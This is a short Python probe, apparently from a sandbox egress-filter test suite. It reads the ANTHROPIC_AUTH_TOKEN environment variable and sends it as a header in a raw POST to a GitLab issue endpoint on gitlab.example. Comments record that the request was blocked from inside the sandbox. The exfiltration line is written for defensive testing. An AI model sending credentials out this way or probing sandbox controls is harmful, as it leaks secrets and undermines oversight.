# line: secret in URL, header, body, DNS label
# control: 200
# inside: 403 gitlab/route
# seen: http allowed POST /gitlab/api/v4/projects/1/issues
# journal: gitlab/route
import os
from attempt import send, verdict

ticket = os.environ.get("ANTHROPIC_AUTH_TOKEN", "none")
result = verdict(send("POST /gitlab/api/v4/projects/1/issues HTTP/1.1\r\nHost: gitlab.example\r\nContent-Type: application/json\r\nContent-Length: 26\r\nJOB-TOKEN: %s\r\n\r\n{\"title\":\"made-up-secret\"}" % ticket))
